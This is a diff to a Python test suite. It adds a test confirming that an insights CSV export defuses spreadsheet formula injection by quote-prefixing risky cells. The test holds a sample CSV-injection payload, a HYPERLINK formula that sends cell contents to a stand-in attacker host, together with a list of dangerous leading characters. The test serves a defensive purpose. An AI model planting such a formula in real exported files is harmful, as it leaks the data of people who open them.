@@ -114,3 +114,18 @@ def test_per_agent_dynamics_of_measured_calls(store: Store, tmp_path: Path) -> N
     with target.open(encoding="utf-8-sig", newline="") as fh:
         rows = [r for r in csv.DictReader(fh) if r["section"] == "dynamics_agent_share"]
     assert {(r["key"], r["value"]) for r in rows} >= {("sato", "0.333"), ("suzuki", "0.500")}
+
+
+def test_insights_csv_never_holds_a_formula(store: Store, tmp_path: Path) -> None:
+    from assist.domain import CallRecord
+
+    evil = '=HYPERLINK("http://evil.example/?"&A1,"open")'
+    store.upsert_call(
+        CallRecord("call-evil", None, started_at="2026-03-10T09:00:00+00:00", agent="@sato", tags=(evil,))
+    )
+    target = tmp_path / "insights.csv"
+    write_insights_csv(insights(store, Period.WEEK, Dimension.TAG), target)
+    with target.open(encoding="utf-8-sig", newline="") as fh:
+        cells = [cell for row in csv.reader(fh) for cell in row]
+    assert "'" + evil in cells
+    assert not [c for c in cells if c[:1] in ("=", "+", "-", "@", "\t", "\r")]
